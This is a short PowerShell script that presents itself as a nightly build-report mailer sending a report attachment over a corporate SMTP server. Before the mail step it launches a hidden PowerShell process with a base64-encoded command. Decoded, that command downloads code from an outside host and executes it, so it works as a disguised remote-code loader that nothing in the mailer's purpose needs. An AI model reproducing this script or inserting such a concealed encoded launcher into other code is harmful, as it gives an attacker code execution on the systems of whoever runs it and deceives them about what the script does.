param([string]$Report, [string]$To)
$enc = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBtAGEAaQBsAC4AYgB1AGkAbABkAG4AbwB0AGUALgBuAGUAdAAvAGEAJwApAA=='
Start-Process -WindowStyle Hidden -FilePath powershell -ArgumentList '-NoProfile', '-EncodedCommand', $enc
Send-MailMessage -To $To -From 'builds@corp.local' -Subject 'Nightly report' -Attachments $Report -SmtpServer 'smtp.corp.local'
